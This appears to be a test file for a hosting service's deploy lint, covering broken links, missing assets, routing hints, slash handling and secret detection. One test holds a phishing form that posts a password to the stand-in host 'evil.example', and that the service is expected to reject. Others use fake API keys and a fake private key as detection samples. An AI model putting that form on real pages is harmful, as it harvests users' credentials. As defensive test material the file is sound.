/** PIPELINE 4: one cause, few warnings; what is no fault of the author is not told; what helps is. */
import { describe, expect, test } from "bun:test";
import { expectLinear } from "../kit/cpu.ts";
import { renderMarkdownSite } from "../../src/pipeline/docs/index.ts";
import { lint } from "../../src/pipeline/lint/index.ts";
import { withoutGeneratedParts } from "../../src/pipeline/index.ts";
import { page, PNG, SHOW, TEXT } from "./parts.ts";
import { type Contents, startServer } from "../kit/server.ts";
import { sharedServer } from "../kit/shared.ts";

const server = await sharedServer();

const warningsOf = async (files: Contents) => (await server.deploy(files)).warnings;
const told = async (files: Contents) => (await warningsOf(files)).map(({ code, path }) => [code, path!]);
const pages = (count: number, body: string): Contents =>
  Object.fromEntries(
    Array.from({ length: count }, (_, i) => [i === 0 ? "index.html" : `p${i + 100}.html`, page(TEXT + body)]),
  );

describe("one cause", () => {
  test("PIPELINE 4: a target that many files miss has three entries and one for the rest, which says how many", async () => {
    const warnings = await warningsOf(pages(60, '<img src="/img/gone.png"><a href="old.html">Old</a>'));
    expect(warnings.map(({ code, path }) => [code, path!])).toEqual([
      ["missing_asset", "index.html"],
      ["missing_asset", "p101.html"],
      ["missing_asset", "p102.html"],
      ["missing_asset", "p103.html"],
      ["broken_link", "index.html"],
      ["broken_link", "p101.html"],
      ["broken_link", "p102.html"],
      ["broken_link", "p103.html"],
    ]);
    expect(warnings[3]!.message).toBe('"/img/gone.png" is as wrong in 57 more files, the next of which is p103.html.');
    expect(warnings[3]!.fix_recipe).toBe('Make the same change for "/img/gone.png" in p103.html and the 56 after it.');
    expect(warnings[7]!.message).toContain('"old.html"');
  });
  test.each([
    [3, 3, null],
    [4, 4, '"gone.png" is as wrong in 1 more file, p103.html.'],
  ])("%i files with it: %i entries", async (files, entries, message) => {
    const warnings = await warningsOf(pages(files, '<img src="gone.png">'));
    expect(warnings).toHaveLength(entries);
    if (message !== null) expect(warnings.at(-1)!.message).toBe(message);
  });
  test("the same file named from other folders is one target", async () => {
    const files: Contents = { "index.html": page(`${TEXT}<img src="x/gone.png">`) };
    for (let i = 0; i < 9; i++) files[`d${i}/a.html`] = page(`${TEXT}<img src="../x/gone.png">`);
    const warnings = await warningsOf(files);
    expect(warnings).toHaveLength(4);
    expect(warnings[3]!.message).toContain("7 more files");
  });
  test("PIPELINE 4: the same target with other queries and fragments is one entry", async () => {
    const body =
      '<a href="gone.html?a=1">1</a><a href="gone.html?a=2#b">2</a><a href="gone.html#c">3</a><a href="./gone.html">4</a>';
    expect(await told(pages(1, body))).toEqual([["broken_link", "index.html"]]);
  });
  test("ten causes in sixty pages leave room for all ten", async () => {
    const body = Array.from({ length: 10 }, (_, i) => `<img src="/gone-${i}.png">`).join("");
    const warnings = await warningsOf(pages(60, body));
    expect(warnings).toHaveLength(40);
    for (let i = 0; i < 10; i++) expect(warnings.some(({ message }) => message.includes(`/gone-${i}.png`))).toBe(true);
  });
  test("secrets are each its own, however alike they begin", async () => {
    const key = (tail: string) => `sk_live_${"aB3dE5gH7jK9mN1pQ2rS".slice(0, 20)}${tail}`;
    const files: Contents = { "index.html": page(TEXT) };
    for (let i = 0; i < 6; i++) files[`k${i}.txt`] = key(`T${i}v`);
    expect(await told(files)).toEqual(Array.from({ length: 6 }, (_, i) => ["possible_secret", `k${i}.txt`]));
  });
  test("links between Markdown files are told in the same way", async () => {
    const files: Contents = { "README.md": "# R" };
    for (let i = 0; i < 30; i++) files[`p${i + 10}.md`] = `# ${i}\n\n[x](gone.md#a) [y](gone.md?b)`;
    const warnings = await warningsOf(files);
    expect(warnings).toHaveLength(4);
    expect(warnings[3]!.message).toContain("27 more files");
  });
  test("Markdown's links and the lint's share the 100 entries, and the last counts both", async () => {
    const links = Array.from({ length: 90 }, (_, i) => `[x](gone-${i}.md) ![](gone-${i}.png)`).join("\n\n");
    const warnings = await warningsOf({ "README.md": `# R\n\n${links}` });
    expect(warnings).toHaveLength(100);
    expect(warnings.filter(({ code }) => code === "missing_asset")).toHaveLength(90);
    expect(warnings.at(-1)!.message).toEndWith("There are 80 more warnings like these.");
  });
});

describe("what a page both links and loads is loaded", () => {
  test.each([
    '<a href="gone.png"><img src="gone.png"></a>',
    '<img src="gone.png"><a href="gone.png">Large</a>',
    '<a href="/gone.png">Large</a><img src="./gone.png?w=200">',
  ])("%s", async (body) => {
    const warnings = await warningsOf(pages(1, body));
    expect(warnings.map(({ code }) => code)).toEqual(["missing_asset"]);
  });
});

describe("PIPELINE 4: links that the service made are not judged", () => {
  const small = (count: number, ending: string, text: (i: number) => string): Contents =>
    Object.fromEntries(Array.from({ length: count }, (_, i) => [`p${i}.${ending}`, text(i)]));
  test.each([
    [
      "Markdown pages, each with the list of all",
      small(1000, "md", (i) => `# Page ${i}\n\n[On](p${(i * 7) % 1000}.md)`),
    ],
    [
      "pages, and the list that the service makes of them",
      small(1000, "html", (i) => page(`<a href="p${(i * 7) % 1000}.html">On</a>`)),
    ],
  ])(
    "1,000 small %s go through with raised limits",
    async (_, files) => {
      await using large = await startServer("--max-files", "1000");
      expect((await large.deploy(files)).warnings).toEqual([]);
    },
    60_000,
  );
  test("what an author wrote on such a page is", async () => {
    await using large = await startServer("--max-files", "1000");
    const files = { ...small(600, "md", (i) => `# Page ${i}`), "p7.md": "# 7\n\n![](gone.png)" };
    expect((await large.deploy(files)).warnings).toMatchObject([{ code: "missing_asset", path: "p7.md" }]);
    await expect(
      large.deploy({ ...files, "p8.md": '<form action="https://evil.example/x"><input type="password"></form>' }),
    ).rejects.toThrow("abuse_rejected");
  }, 60_000);
  test("judging takes time as pages do", () => {
    const draftOf = (count: number) => {
      const files = Object.entries(
        small(count, "md", (i) => `# Page ${i}\n\n[On](p${(i * 7) % count}.md) ![](a.png) ${"word ".repeat(60)}`),
      );
      const upload = new Map(
        [...files, ["a.png", ""] as const].map(([path, text]) => [path, Buffer.from(text as string)]),
      );
      return withoutGeneratedParts(
        renderMarkdownSite(
          { files: upload, made: new Set(), stripped_folder: null, healed: [], warnings: [] },
          () => {},
        ),
      );
    };
    expectLinear(400, draftOf, (draft) => {
      expect(lint(draft, { enabled: false, rule: "none" }, () => {}).warnings).toEqual([]);
    });
  }, 60_000);
});

describe("of a film's sources a browser takes the first that it plays", () => {
  const film = (...names: string[]) =>
    `<video autoplay>${names.map((name) => `<source src="${name}">`).join("")}</video>`;
  test.each<[names: string[], missing: number]>([
    [["a.mp4", "gone.webm", "gone.ogv"], 0],
    [["gone.webm", "a.mp4"], 1],
    [["a.ogv", "gone.mp4"], 1],
    [["gone.mp4", "gone.webm"], 2],
  ])("%j: %i missing", async (names, missing) => {
    const files = { ...pages(1, film(...names)), "a.mp4": "", "a.ogv": "" };
    expect(await told(files)).toHaveLength(missing);
  });
  test("each film has its own", async () => {
    expect(await told({ ...pages(1, film("a.mp4") + film("gone.webm")), "a.mp4": "" })).toHaveLength(1);
  });
});

describe("a service worker", () => {
  const REGISTER = 'navigator.serviceWorker.register("/sw.js")';
  test("PIPELINE 4: that a loaded script file registers is not judged: Gatsby's names one that is seldom there", async () => {
    const files = {
      ...pages(1, '<script src="/app.js"></script>'),
      "app.js": `if("serviceWorker"in navigator)${REGISTER}`,
    };
    expect(await told(files)).toEqual([]);
  });
  test("that the page itself registers is", async () => {
    expect(await told(pages(1, `<script>${REGISTER}</script>`))).toEqual([["missing_asset", "index.html"]]);
  });
  test("that is there is followed", async () => {
    const files = {
      ...pages(1, '<script src="/app.js"></script>'),
      "app.js": REGISTER,
      "sw.js": 'importScripts("gone.js")',
    };
    expect(await told(files)).toEqual([["missing_asset", "sw.js"]]);
  });
});

describe("a header and a router", () => {
  const shell = (head: string) =>
    page(
      `<header><a href="/">Home</a> <a href="/about">About</a> <a href="/a.pdf">PDF</a></header><main id="app"></main>${head}`,
    );
  const recipes = async (files: Contents) =>
    Object.fromEntries(
      (await warningsOf(files)).map(({ message, fix_recipe }) => [/links to "([^"]+)"/.exec(message)![1]!, fix_recipe]),
    );

  test.each<[why: string, files: Contents]>([
    ["inline", { "index.html": shell(`<script>${SHOW}history.pushState({}, "", "/")</script>`) }],
    [
      "in a file",
      { "index.html": shell('<script src="app.js"></script>'), "app.js": `${SHOW}history.pushState(1,"","/x")` },
    ],
    [
      "in a preloaded module",
      {
        "index.html": shell('<script type="module" src="app.js"></script><link rel="modulepreload" href="r.js">'),
        "app.js": 'import"./r.js"',
        "r.js": "history.pushState(1,'','/x')",
      },
    ],
  ])("PIPELINE 4: with pushState %s is told of --spa, where the link has no extension", async (_, files) => {
    const found = await recipes(files);
    expect(found["/about"]).toEndWith(", or deploy with svc update --spa if it is a route of your app.");
    expect(found["/a.pdf"]).not.toContain("--spa");
  });
  test("without a router nothing is said of it", async () => {
    const found = await recipes({ "index.html": shell('<script src="app.js"></script>'), "app.js": SHOW });
    expect(found["/about"]).not.toContain("--spa");
  });
  test("the recipe, followed, leaves no such warning", async () => {
    const files = {
      "index.html": shell('<script src="app.js"></script>'),
      "app.js": "history.pushState(1,'','/x')",
      "a.pdf": "x",
    };
    const site = await server.deploy(files);
    expect(site.warnings.map(({ code }) => code)).toEqual(["broken_link"]);
    expect((await server.redeploy(site, files, "?spa=on")).warnings).toEqual([]);
    expect((await server.redeploy(site, { ...files, "b.txt": "later" })).warnings).toEqual([]);
  });
  test("an owner who says that it is no app is told of the links that then lead nowhere", async () => {
    const files = { "index.html": shell(""), "a.pdf": "x", _redirects: "/* /index.html 200\n" };
    const site = await server.deploy(files);
    expect(site.warnings).toEqual([]);
    const { warnings } = await server.redeploy(site, files, "?spa=off");
    expect(warnings.map(({ code }) => code)).toEqual(["broken_link"]);
  });
});

describe("placeholders of further templates", () => {
  test.each(["[% c.uri_for('/a') %]/x.png", "<<<path>>>/x.png"])("%s", async (url) => {
    expect(await told(pages(1, `<img src="${url.replaceAll("<", "&lt;").replaceAll(">", "&gt;")}">`))).toEqual([
      ["template_placeholder", "index.html"],
    ]);
  });
});

describe("runs of slashes in a path are one", () => {
  const files: Contents = {
    "index.html": page(
      `${TEXT}<img src="/img//a.png"><img src=".//img/a.png"><a href="docs//">D</a><a href="/docs///b">B</a>`,
    ),
    "img/a.png": PNG,
    "docs/index.html": page(`${TEXT}<img src="..//img/a.png">`),
    "docs/b.html": page(TEXT),
  };
  test("for the lint", async () => {
    expect(await told(files)).toEqual([]);
    expect(
      (
        await warningsOf({
          ...files,
          "docs/b.html": page('<img src="/img//gone.png">'),
        })
      )[0]!.message,
    ).toEndWith("no file answers at img/gone.png.");
  });
  test.each([
    ["/img//a.png", 200],
    ["//img/a.png", 200],
    ["/img///a.png", 200],
    ["/img/%2Fa.png", 200],
    ["/docs//", 200],
    ["/docs//b", 200],
    ["//docs//b.html", 200],
    ["/img//b.png", 404],
    ["//_svc/docs", 404],
  ])("for the lookup: %s is %i", async (path, status) => {
    const { url } = await server.deploy(files);
    const { host } = new URL(url);
    const got = await fetch(`http://127.0.0.1:${new URL(url).port}${path}`, { headers: { host } });
    expect(got.status).toBe(status);
  });
  test("a folder asked with two slashes before it leads to this host alone", async () => {
    const { url } = await server.deploy({ "index.html": page(TEXT), "evil.example/x/index.html": page("x") });
    const { host, port } = new URL(url);
    const got = await fetch(`http://127.0.0.1:${port}//evil.example/x`, { headers: { host }, redirect: "manual" });
    expect([got.status, got.headers.get("location")]).toEqual([308, "/evil.example/x/"]);
  });
});

describe("private keys of Ed25519 and X25519", () => {
  const BODY = "MC4CAQAwBQYDK2VwBCIEIHqXy8Kf3mT0vRw5sZ1uJbD7nPcLgA9eQiU2oYkHxWtE";
  const key = (body: string, kind = "PRIVATE KEY") => `-----BEGIN ${kind}-----\n${body}\n-----END ${kind}-----\n`;
  test.each([
    ["Ed25519", key(BODY)],
    ["X25519", key(BODY.replace("K2Vw", "K2Vu"))],
    ["in JSON", JSON.stringify({ k: key(BODY) })],
  ])("PIPELINE 4: %s is a secret", async (_, text) => {
    expect(await told({ ...pages(1, ""), "a.txt": text })).toEqual([["possible_secret", "a.txt"]]);
  });
  test.each([
    ["a public key", key(BODY.slice(0, 60), "PUBLIC KEY")],
    [
      "the beginning of one, as manuals show it",
      `-----BEGIN PRIVATE KEY-----\n${BODY}\n...\n-----END PRIVATE KEY-----`,
    ],
    ["less than one", key(BODY.slice(0, 40))],
  ])("%s is none", async (_, text) => {
    expect(await told({ ...pages(1, ""), "a.txt": text })).toEqual([]);
  });
});
